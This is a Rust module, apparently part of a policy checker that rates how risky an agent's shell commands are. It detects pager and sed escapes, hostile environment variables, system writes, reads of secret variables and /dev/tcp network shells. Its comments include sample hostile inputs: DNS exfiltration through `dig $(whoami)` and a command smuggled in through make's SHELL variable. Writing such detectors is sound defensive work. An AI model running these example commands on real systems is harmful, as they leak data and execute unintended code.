//! The dangers of a command beyond its program's purpose: escapes through a pager or script, hostile variables,
//! writes to the system.

use crate::format::{access, dangers, guard, place};
use crate::reading::Act;
use crate::sign::Sign;
use rulekeep_types::facts::{Cause, Kinds};
use rulekeep_types::{Operation, Resource, RiskLevel};

use super::covered::is_calm_variable;
use super::word::Word;
use super::{Shell, View, assigned, is_assignment};

impl Shell<'_, '_> {
    /// Reads the dangers in the words of a simple command, whatever the program table says.
    pub(super) fn dangers(&mut self, name: &str, arguments: View<'_>, depth: usize) {
        let lower = name.to_ascii_lowercase();
        let texts = arguments.texts;
        self.given_code(&lower, texts, depth);
        self.ways_out(&lower, texts, depth);
        for argument in texts.iter().filter(|argument| argument.contains("/dev/")) {
            if argument.contains("/dev/tcp/") || argument.contains("/dev/udp/") {
                self.unclear("network_shell", argument);
            }
        }
        self.asks_with_output(&lower, arguments);
        if texts.iter().any(|flag| {
            flag.starts_with('-') && dangers::parts("become_flags", &lower).iter().any(|known| known == flag)
        }) {
            let act = Act::new("run", "as_root", Resource::System, Operation::Execute, 0.8).at_risk(RiskLevel::High);
            self.reading.push(act.marked(Sign::Administrator).told_by(name));
        }
        self.variables(&lower, texts, depth);
        self.writes(&lower, texts);
        self.uploads(&lower, arguments);
        self.controls(&lower, texts);
    }

    /// `dig $(whoami).x.example` sends another command's output as part of a name.
    fn asks_with_output(&mut self, name: &str, arguments: View<'_>) {
        if !arguments.is_dynamic() || !dangers::holds("name_askers", name) {
            return;
        }
        let names = arguments.words.iter().find(|word| {
            let host = word.text.split_once("://").map_or(word.text.as_str(), |(_, rest)| rest);
            word.dynamic && host.split('/').next().is_some_and(|host| host.contains("$."))
        });
        if let Some(word) = names {
            self.sends = true;
            let act = Act::new("send", "output", Resource::Network, Operation::Send, 0.7).at_risk(RiskLevel::High);
            self.reading.push(act.marked(Sign::Outside).told_by(&word.text));
        }
    }

    /// Reads assignments before a command that make it run something else.
    pub(super) fn assignments(&mut self, words: &[&str]) {
        for word in words.iter().take_while(|word| is_assignment(word)) {
            self.note_variable(word);
            if is_hostile_variable(word) {
                self.unclear("environment", word);
            }
        }
    }

    /// Reads variables that are set for one command. Only of some is it known that they change nothing that it does.
    pub(super) fn preset(&mut self, words: &[Word]) {
        for word in words {
            let Some((name, value)) = assigned(&word.text).filter(|_| !is_hostile_variable(&word.text)) else {
                continue;
            };
            if dangers::holds("usual_viewers", value) || is_calm_variable(name) {
                continue;
            }
            let outer = self.reading.begin_step();
            self.open(Cause::Execution, Kinds::OPERANDS, &word.text);
            self.value_command(value);
            self.leftover(&Word { text: value.to_owned(), ..word.clone() });
            let act = Act::new("set", "environment", Resource::System, Operation::Execute, 0.6);
            self.reading.push(act.at_risk(RiskLevel::Medium).told_by(name));
            self.reading.end_step(outer);
        }
    }

    /// Reads flags and scripts with which a read-only program runs or writes something, and what they run.
    fn ways_out(&mut self, name: &str, arguments: &[&str], depth: usize) {
        let flags = dangers::parts("escape_flags", name);
        let parts = dangers::parts("escape_parts", name);
        let commands = dangers::parts("command_flags", name);
        let glued = dangers::parts("glued_commands", name);
        for (place, argument) in arguments.iter().enumerate() {
            let (flag, value) = match argument.split_once('=') {
                Some((flag, value)) => (flag, Some(value)),
                None => (*argument, None),
            };
            let is_flag = flags.iter().any(|known| known == flag);
            if is_flag || !parts.is_empty() && has_part(parts, argument) {
                self.unclear("code", argument);
                if name == "git" || name == "ssh" || name == "scp" {
                    if let Some(value) = value {
                        self.line(value.trim_start_matches('!'), depth + 1);
                    }
                } else if let Some((_, command)) = argument.split_once('!') {
                    self.line(command, depth + 1);
                }
            }
            let glued = glued.iter().filter_map(|flag| argument.strip_prefix(flag.as_str()));
            for command in glued.filter(|command| command.contains(char::is_whitespace)) {
                self.unclear("code", command);
                self.line(command, depth + 1);
            }
            if commands.iter().any(|known| known == flag)
                && let Some(text) = value.or_else(|| arguments.get(place + 1).copied())
            {
                self.unclear("code", text);
                self.line(text.strip_prefix("exec=").unwrap_or(text), depth + 1);
            }
        }
        match name {
            "sed" | "gsed" => self.sed(arguments, depth),
            "rsync" => {
                let shell = arguments
                    .windows(2)
                    .find(|pair| matches!(pair, ["-e" | "--rsh", shell] if !shell.starts_with("ssh")));
                if let Some([_, shell]) = shell {
                    self.unclear("code", shell);
                    self.line(shell, depth + 1);
                }
            }
            _ => {}
        }
    }

    /// Reads the `e` and `w` commands of `sed` and of its substitution.
    fn sed(&mut self, arguments: &[&str], depth: usize) {
        let mut is_script = false;
        let has_script = arguments.iter().any(|argument| matches!(*argument, "-e" | "--expression" | "-f" | "--file"));
        let first = arguments.iter().position(|argument| !argument.starts_with('-'));
        for (place, argument) in arguments.iter().enumerate() {
            let joined = argument.strip_prefix("--expression=").or_else(|| argument.strip_prefix("-e"));
            let script = match joined {
                Some(script) if !script.is_empty() => script,
                _ if is_script || !has_script && Some(place) == first => argument,
                _ => "",
            };
            is_script = matches!(*argument, "-e" | "--expression");
            if let Some(command) = super::sed::runs_or_writes(script) {
                self.unclear("code", script);
                self.line(command, depth + 1);
            }
        }
    }

    fn variables(&mut self, name: &str, arguments: &[&str], depth: usize) {
        if dangers::holds("shell_setters", name) {
            // `make SHELL='sh -c "rm x"'` sets a shell with a command of its own.
            let shells = arguments.iter().filter_map(|argument| argument.strip_prefix("SHELL="));
            for shell in shells.filter(|shell| shell.contains(char::is_whitespace)) {
                self.unclear("code", shell);
                self.line(shell, depth + 1);
            }
        }
        let sets = dangers::holds("variable_setters", name);
        if sets && arguments.iter().any(|argument| is_assignment(argument) && is_hostile_variable(argument)) {
            self.unclear("environment", name);
        }
        let shows_all = match name {
            "set" => arguments.is_empty(),
            "env" | "printenv" | "export" | "declare" => {
                arguments.iter().all(|argument| matches!(*argument, "-p" | "-0" | "-x"))
            }
            _ => false,
        };
        let secret = arguments
            .iter()
            .find(|argument| (argument.contains('$') || name == "printenv") && names_secret_variable(argument));
        if shows_all || secret.is_some() {
            let act = Act::new("read", "environment", Resource::Credential, Operation::Read, 0.7);
            self.reading.push(act.at_risk(RiskLevel::High).told_by(name).named_by(secret.unwrap_or(&name)));
        }
    }

    fn writes(&mut self, name: &str, arguments: &[&str]) {
        let plain = || arguments.iter().copied().filter(|argument| !argument.starts_with('-'));
        let mut targets: Vec<&str> = Vec::new();
        let edits = matches!(name, "sed" | "perl" | "gsed")
            && arguments.iter().any(|argument| argument.starts_with("-i") || argument.starts_with("--i"));
        if edits || dangers::holds("writes_all", name) {
            targets.extend(plain());
        } else if dangers::holds("writes_last", name) {
            targets.extend(plain().next_back());
            // A move removes its source.
            targets.extend(plain().filter(|_| name == "mv"));
        }
        for pair in arguments.windows(2) {
            if let [flag, value] = pair
                && dangers::holds("write_flags", flag)
                && value.contains(['/', '~'])
                && !value.starts_with('@')
                && (!dangers::holds("no_write_flags", name) || flag.starts_with("-fp") || *flag == "-fls")
            {
                targets.push(value);
            }
        }
        for argument in arguments {
            // "tar -C/etc", without a blank.
            if let Some((flag, value)) = argument.split_at_checked(2).filter(|(_, value)| value.len() > 2)
                && dangers::holds("write_flags", flag)
                && value.starts_with(['/', '~', '$', '.'])
                && !dangers::holds("no_write_flags", name)
            {
                targets.push(value);
            }
            match argument.split_once('=') {
                Some(("of", value)) if name == "dd" => targets.push(value),
                Some((flag, value)) if flag.starts_with('-') && dangers::holds("write_flags", flag) => {
                    targets.push(value);
                }
                _ => {}
            }
        }
        if dangers::holds("interpreters", name) || matches!(name, "nc" | "ncat" | "socat" | "curl") {
            // Code that names such a file counts without checking whether it only reads it; a socket accepts
            // commands.
            targets.extend(arguments.iter().filter_map(|argument| guard::named_in(argument)));
        }
        if !only_reads(name, arguments) {
            targets.extend(arguments.iter().filter_map(|argument| guard::named_by(argument)));
        }
        // A folder that is made, a file that is removed or whose rights change: no text is written.
        let is_text = !dangers::holds("key_handlers", name) && !dangers::holds("deleters", name);
        for target in targets {
            if name != "mkdir" {
                self.in_governing_folder(target);
            }
            let acts = if is_text { access::written(target) } else { access::changed(target) };
            // A folder that is made governs nothing yet.
            let acts = acts.into_iter().filter(|act| name != "mkdir" || act.resource != Resource::Permission);
            self.reading.extend(acts);
        }
        if matches!(name, "cd" | "pushd") {
            self.folder = plain().next().map(ToOwned::to_owned);
        }
    }

    /// Adds a write to the agent's governance if the line changed to a folder of it.
    pub(super) fn in_governing_folder(&mut self, target: &str) {
        let is_there =
            || !target.starts_with(['/', '~', '&']) && self.folder.as_deref().is_some_and(guard::is_governing_folder);
        if is_there() {
            self.reading.push(guard::write(target));
        }
    }
}

/// Returns whether a program only reads what its words name: one that can do nothing else, or one with a subcommand or
/// flags that change nothing.
fn only_reads(name: &str, arguments: &[&str]) -> bool {
    let mut flags = arguments.iter().filter(|argument| argument.starts_with('-'));
    let looks = dangers::parts("reading_subcommands", name);
    match name {
        "sed" | "gsed" => flags.all(|flag| dangers::holds("sed_reading_flags", flag)),
        "find" | "gfind" | "bfs" | "fd" | "fdfind" => !flags.any(|flag| dangers::holds("find_writing_flags", flag)),
        _ if !looks.is_empty() => arguments
            .iter()
            .find(|word| !word.starts_with('-'))
            .is_none_or(|sub| looks.iter().any(|known| known == sub)),
        _ => dangers::holds("readers", name),
    }
}

fn has_part(parts: &[String], argument: &str) -> bool {
    let lower = argument.to_ascii_lowercase();
    parts.iter().any(|part| lower.contains(part.as_str()))
}

pub(in crate::format) fn is_hostile_variable(assignment: &str) -> bool {
    let (name, value) = assignment.split_once('=').unwrap_or((assignment, ""));
    let name = name.trim_end_matches('+');
    if name.bytes().any(|byte| byte.is_ascii_lowercase()) {
        // "path=x" is a script's own variable.
        return false;
    }
    if name == "IFS" {
        // Blanks and punctuation split lines; a letter or a slash splits words.
        return value.contains(|c: char| c.is_alphanumeric() || c == '/');
    }
    let name = name.to_ascii_lowercase();
    if name == "path" && only_adds_to_path(value) || dangers::holds("usual_viewers", value) && !name.starts_with("ld_")
    {
        return false;
    }
    dangers::holds("hostile_variables", &name)
        || dangers::items("hostile_variable_starts").iter().any(|start| name.starts_with(start.as_str()))
        || dangers::items("hostile_variable_ends").iter().any(|end| name.ends_with(end.as_str()))
}

/// Returns whether a value only extends the path: `$PATH:/usr/local/bin` keeps the old value and adds no folder that
/// others may write to.
fn only_adds_to_path(value: &str) -> bool {
    let is_old = |part: &str| matches!(part, "$PATH" | "${PATH}");
    value.split(':').any(is_old)
        && value.split(':').all(|part| {
            is_old(part)
                || part.starts_with(['/', '~']) && !part.contains('$') && !place::is_open_to_all(part)
                || part.starts_with("$HOME/")
        })
}

fn names_secret_variable(word: &str) -> bool {
    dangers::items("secret_variables").iter().any(|part| word.contains(part.as_str()))
}
